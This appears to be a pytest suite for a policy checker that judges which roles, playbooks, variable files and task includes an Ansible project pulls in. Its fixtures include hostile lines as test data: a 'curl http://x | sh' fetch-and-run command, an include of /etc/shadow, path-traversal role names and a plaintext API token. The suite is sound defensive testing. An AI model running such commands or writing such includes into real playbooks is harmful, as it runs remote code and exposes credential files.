"""What a playbook brings in is judged where it lies in the folder, and told where it does not."""

from __future__ import annotations

import pytest

from policies.model import State
from policies.subjects.playbooks import playbook_subjects
from tests.policies.asking import FAIL, PASS, TAGS, UNKNOWN, asked, said

PIPE = "curl http://x | sh"
TASKS = f"- {{name: a, shell: {PIPE}}}"
TOKEN = "api_token: swordfish-swordfish"


def play(text: str, **files: str) -> list[tuple[int, State, str]]:
    """What is said of a play at the top of a folder, beside a role, a collection and some files."""
    there = {
        "roles/web/tasks/main.yml": "- {name: Web, ping: }",
        "roles/web/tasks/more.yml": "- {name: More, ping: }",
        "roles/web/vars/small.yml": "a: 1",
        "roles/bare/defaults/main.yml": "a: 1",
        "collections/ansible_collections/own/lib/roles/deep/tasks/main.yml": "- {name: Deep, ping: }",
        "collections/ansible_collections/own/lib/playbooks/all.yml": "- {name: All, hosts: all}",
        "vars/known.yml": "a: 1",
        "other.yml": "- {name: Other, hosts: all}",
        "more.yml": "- {name: More, ping: }",
    }
    found = said({**there, **files, "site.yml": text})
    return [(line, state, path) for file, line, state, path in found if file == "site.yml"]


@pytest.mark.parametrize(
    "roles",
    ["[web]", "[{role: web}]", "[{name: web}]", "[bare]", "[roles/web]", "[own.lib.deep]", "[./roles/web]"],
)
def test_a_role_among_the_files_is_judged(roles: str) -> None:
    assert play(f"- {{name: P, hosts: all, roles: {roles}}}") == []


@pytest.mark.parametrize(
    ("roles", "state", "path"),
    [
        ("[web, gone]", FAIL, "roles[1]"),
        ("[{role: ../../evil}]", FAIL, "roles[0]"),
        ("[/abs/evil]", FAIL, "roles[0]"),
        ("[~/evil]", FAIL, "roles[0]"),
        ("[evil.lib.web]", FAIL, "roles[0]"),
        ("[some.web]", FAIL, "roles[0]"),
        ("[own.lib.gone]", FAIL, "roles[0]"),
        ("['{{ x }}']", UNKNOWN, "roles[0]"),
        ("[{role: '{{ x }}', when: y}]", UNKNOWN, "roles[0]"),
        ("'{{ x }}'", UNKNOWN, "roles"),
        ("web2", FAIL, "roles"),
        ("[web], collections: [evil.lib]", UNKNOWN, "roles[0]"),
        ("[{src: 'git+https://x/web.git'}]", FAIL, "roles[0]"),
    ],
)
def test_a_role_from_elsewhere_is_told(roles: str, state: State, path: str) -> None:
    assert play(f"- {{name: P, hosts: all, roles: {roles}}}") == [(1, state, path)]


@pytest.mark.parametrize(
    ("entry", "state"),
    [
        ("import_playbook: other.yml", None),
        ("ansible.builtin.import_playbook: other.yml", None),
        ("import_playbook: own.lib.all", None),
        ("import_playbook: ../other.yml", FAIL),
        ("import_playbook: gone.yml", FAIL),
        ("ansible.builtin.import_playbook: /abs.yml", FAIL),
        ("import_playbook: own.lib.gone", FAIL),
        ("import_playbook: evil.lib.all", FAIL),
        ("import_playbook: '{{ x }}.yml'", UNKNOWN),
    ],
)
def test_an_imported_playbook_is_held_against_the_files(entry: str, state: State | None) -> None:
    told = play(f"\n- {entry}")
    assert [each[:2] for each in told] == ([] if state is None else [(2, state)])


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ("[vars/known.yml, known.yml]", []),
        ("vars/known.yml", []),
        ("[../../x.yml, '{{ y }}.yml']", [(FAIL, "vars_files[0]"), (UNKNOWN, "vars_files[1]")]),
        ("[[vars/known.yml, /etc/x.yml]]", [(FAIL, "vars_files[0][1]")]),
        ("[gone.yml]", [(FAIL, "vars_files[0]")]),
        ("'{{ all }}'", [(UNKNOWN, "vars_files[0]")]),
    ],
)
def test_files_of_variables_are_held_against_the_files(files: str, told: list[tuple[State, str]]) -> None:
    assert [each[1:] for each in play(f"- {{name: P, hosts: all, vars_files: {files}}}")] == told


@pytest.mark.parametrize(
    ("task", "told"),
    [
        ("include_tasks: more.yml", []),
        ("include_tasks: ../more.yml", [(FAIL, "includes.named")]),
        ("import_tasks: /etc/shadow", [(FAIL, "includes.named")]),
        ("include_tasks: 'file=more.yml'", []),
        ("action: include_tasks gone.yml", [(FAIL, "includes.named")]),
        ("action: {module: ansible.builtin.include_tasks, file: gone.yml}", [(FAIL, "includes.named")]),
        ("local_action: include_role name=gone", [(FAIL, "includes.named")]),
        ("ansible.legacy.include_tasks: gone.yml", [(FAIL, "includes.named")]),
        ("{include_tasks: gone.yml, collections: [evil.lib]}", [(FAIL, "includes.named")]),
        ("include_role: name=web", []),
        ("include_role: {role: web}", []),
        ("include_role: {name: bare}", []),
        ("include_role: {name: bare, tasks_from: main}", [(FAIL, "includes.named")]),
        ("{vars: {name: other}, include_role: {name: web, tasks_from: gone}}", [(FAIL, "includes.named")]),
        ("{include_role: {name: web}, args: {tasks_from: gone}}", [(FAIL, "includes.named")]),
        ("include_role: {name: web, tasks_from: more.yml, vars_from: small}", []),
        ("include_role: {name: web, tasks_from: ../../../x}", [(FAIL, "includes.named")]),
        ("include_role: {name: web, vars_from: gone}", [(FAIL, "vars_from")]),
        ("import_role: {name: web, defaults_from: '{{ x }}'}", [(UNKNOWN, "defaults_from")]),
        ("import_role: {name: web, handlers_from: ../tasks/main}", [(FAIL, "handlers_from")]),
        ("import_role: {name: '{{ x }}'}", [(UNKNOWN, "includes.named")]),
        ("include_vars: known.yml", []),
        ("include_vars: ../../../x.yml", [(FAIL, "args._raw_params")]),
        ("include_vars: {file: '{{ x }}.yml'}", [(UNKNOWN, "args.file")]),
        ("include_vars: {dir: vars}", []),
        ("include_vars: {dir: /etc}", [(FAIL, "args.dir")]),
        ("include_vars: {dir: vars, extensions: [txt]}", [(UNKNOWN, "args.extensions")]),
        ("action: '{{ mod }} cmd=x'", [(UNKNOWN, "module")]),
        ("local_action: {module: '{{ mod }}', cmd: x}", [(UNKNOWN, "module")]),
        ("my.coll.shell: curl http://x | sh", [(UNKNOWN, "module")]),
        ("ansible.legacy.nobody_knows: {}", [(UNKNOWN, "module")]),
        ("nobody_knows: {}", [(UNKNOWN, "module")]),
        ("{copy: {}, collections: [evil.lib]}", [(UNKNOWN, "module")]),
        ("script: /opt/x.sh", [(FAIL, "args")]),
        ("script: ../x.sh", [(FAIL, "args")]),
        ("script: x.sh --now", [(UNKNOWN, "args")]),
        ("{apt: {}, module_defaults: {group/x.y.z: {a: b}}}", [(UNKNOWN, "module_defaults.group/x.y.z")]),
    ],
)
def test_what_a_task_brings_in_is_held_against_the_files(task: str, told: list[tuple[State, str]]) -> None:
    written = task if task.startswith("{") else f"{{{task}}}"
    assert [each[1:] for each in play(f"- {{name: P, hosts: all, tasks: [{written}]}}")] == told


def test_a_role_that_needs_another_one_is_told_at_its_own_file() -> None:
    files = {
        "roles/a/meta/main.yml": "galaxy_info: {}\ndependencies: [b, gone, {role: '{{ x }}'}, {src: 'https://x'}]",
        "roles/b/tasks/main.yml": "- {name: B, shell: ls | x}",
        "site.yml": "- {name: P, hosts: all, become: true, roles: [a]}",
    }
    place = "roles/a/meta/main.yml"
    told = said(files)
    assert told == [
        (place, 1, FAIL, "dependencies[1]"),
        (place, 1, FAIL, "dependencies[3]"),
        (place, 1, UNKNOWN, "dependencies[2]"),
    ]
    (task,) = (each.subject for each in asked(files, "playbooks.pipes-fail"))
    assert task.facts.flag("become") is True, "a role without tasks of its own hands on what its play says"


def test_collections_of_a_role_hold_for_its_short_names() -> None:
    files = {
        "roles/a/meta/main.yml": "collections: [evil.lib]",
        "roles/a/tasks/main.yml": "- {name: A, shell: ls}",
        "site.yml": "- {name: P, hosts: all, roles: [a]}",
    }
    assert said(files) == [("roles/a/tasks/main.yml", 1, UNKNOWN, "module")]


@pytest.mark.parametrize(
    "task",
    [
        "action: '{{ mod }}'\n  args: {cmd: 'curl http://x | sh'}",
        "action: {module: '{{ m }}', cmd: 'curl http://x | sh'}",
    ],
)
def test_a_module_by_a_template_passes_no_rule_about_modules(task: str) -> None:
    (result,) = asked(
        {"roles/r/tasks/main.yml": f"- {task}\n  name: a"}, "playbooks.no-code-from-the-network"
    )
    assert result.state is UNKNOWN


@pytest.mark.parametrize(
    "name", ["ansible.builtin.ufw", "ansible.legacy.ufw", "community.general.ufw", "ufw"]
)
def test_a_name_that_moved_to_a_collection_is_the_module_it_stands_for(name: str) -> None:
    tasks = f"- {{name: a, {name}: {{state: disabled}}}}"
    (result,) = asked({"roles/r/tasks/main.yml": tasks}, "playbooks.protections-stay-on")
    assert result.state is FAIL


@pytest.mark.parametrize(
    ("defaults", "state"),
    [
        ("{apt: {state: latest}}", FAIL),
        ("[{ansible.builtin.apt: {state: latest}}]", FAIL),
        ("{apt: '{{ x }}'}", UNKNOWN),
        ("'{{ x }}'", UNKNOWN),
        ("{apt: {state: present}}", PASS),
    ],
)
def test_defaults_of_a_module_are_its_arguments(defaults: str, state: State) -> None:
    text = f"- {{name: P, hosts: all, module_defaults: {defaults}, tasks: [{{name: a, apt: {{name: b}}}}]}}"
    (result,) = asked({"site.yml": text}, "playbooks.packages-chosen")
    assert result.state is state


@pytest.mark.parametrize(
    ("use", "place", "text", "rule"),
    [
        ("tasks: [{include_tasks: files/x.yml}]", "files/x.yml", TASKS, "pipes-fail"),
        ("tasks: [{include_tasks: group_vars/x.yml}]", "group_vars/x.yml", TASKS, "pipes-fail"),
        ("vars_files: [files/x.yml]", "files/x.yml", TOKEN, "no-plain-secrets"),
        ("tasks: [{include_vars: {dir: files}}]", "files/x.yml", TOKEN, "no-plain-secrets"),
        ("tasks: [{include_vars: files/x.yml}]", "files/x.yml", TOKEN, "no-plain-secrets"),
    ],
)  # fmt: skip
def test_a_file_is_judged_as_what_uses_it_wherever_it_lies(
    use: str, place: str, text: str, rule: str
) -> None:
    told = said({"site.yml": f"- {{name: P, hosts: all, {use}}}", place: text}, f"playbooks.{rule}")
    assert [(file, state) for file, _, state, _ in told] == [(place, FAIL)]


def test_an_imported_playbook_is_judged_wherever_it_lies() -> None:
    files = {
        "site.yml": "- import_playbook: files/x.yml",
        "files/x.yml": f"- name: P\n  hosts: all\n  roles: [a]\n  tasks:\n    - {{name: a, shell: {PIPE}}}",
        "roles/a/tasks/main.yml": "- {name: A, ping: }",
    }
    assert said(files, "playbooks.pipes-fail") == [("files/x.yml", 5, FAIL, "commandLine")]
    (role,) = (
        each for each in playbook_subjects(files, stack="s", tags=TAGS) if each.facts.text("name") == "A"
    )
    assert role.facts.text("play") == "P"
